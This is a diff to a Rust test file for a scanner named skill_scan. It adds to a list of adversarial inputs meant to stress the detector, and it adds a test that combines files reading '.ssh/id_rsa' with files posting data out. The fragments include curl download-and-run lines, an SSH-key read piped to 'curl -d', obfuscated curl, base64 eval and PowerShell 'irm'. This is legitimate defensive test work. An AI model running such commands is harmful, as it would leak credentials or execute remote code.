@@ -19,7 +19,7 @@ fn repeated(piece: &str, bytes: usize) -> String {
 }
 
 /// Texts that make naive engines look at every byte many times.
-const HOSTILE: [(&str, &str); 22] = [
+const HOSTILE: [(&str, &str); 29] = [
     ("a.sh", "curl -o /tmp/a x;/tmp/a;/tmp/b;"),
     ("a.sh", "curl -o /tmp/a x\n\"/tmp/a\" "),
     ("a.sh", "bash SKILL.md "),
@@ -41,6 +41,13 @@ const HOSTILE: [(&str, &str); 22] = [
     ("a.sh", "exec(eval(base64 "),
     ("a.md", "password zip extract "),
     ("a.sh", "cat ~/.ssh/id_rsa\ncurl -d @- x\n"),
+    ("a.sh", "curl x | # y\n\n # z\n"),
+    ("a.sh", "$(echo `printf '%s$'\\x63"),
+    ("a.py", "A = \"b\"\nf\"{A}{\" + A + \"\n"),
+    ("a.sh", "c'u'r\"l\"'"),
+    ("a.md", "`curl -o a.sh x`, run `bash a.sh` "),
+    ("requirements.txt", "a @ http://e.dev/ -i ://\n"),
+    ("a.ps1", "irm <# ` # "),
     ("a.txt", "\u{5d0}\u{2067}\u{200b}"),
 ];
 
@@ -61,6 +68,22 @@ fn hostile_text_ends_at_the_budget_and_is_named() {
     assert_eq!((report.verdict, report.analysable), (Verdict::NotAnalysable, false));
     let unread: Vec<_> = report.findings.iter().filter(|found| found.rule_id == "too-much-to-read").collect();
     assert_eq!(unread.iter().map(|found| found.file.as_str()).collect::<Vec<_>>(), ["a.sh"]);
+}
+
+/// Many files that read and many that send, none of which names another: each is read for each other, and that is counted.
+#[test]
+fn what_two_files_take_together_is_counted() {
+    let text = |half: &str| format!("{half}{}", repeated("x = 1\n", MIB / 16));
+    let (reads, sends) = (text("open('.ssh/id_rsa')\n"), text("requests.post(u, data=x)\n"));
+    let names: Vec<String> = (0..30).flat_map(|n| [format!("r{n}.py"), format!("s{n}.py")]).collect();
+    let files: Vec<_> = names
+        .iter()
+        .map(|name| (name.as_str(), if name.starts_with('r') { reads.as_bytes() } else { sends.as_bytes() }))
+        .collect();
+    let report = skill_scan::scan(&bundle(&files), RuleSet::builtin());
+    assert!(report.examined <= 128 << 20, "{}", report.examined);
+    assert_eq!((report.verdict, report.analysable), (Verdict::NotAnalysable, false));
+    assert!(report.findings.iter().any(|found| found.rule_id == "too-much-to-read"));
 }
 
 /// Whoever is told to stop gives no verdict.
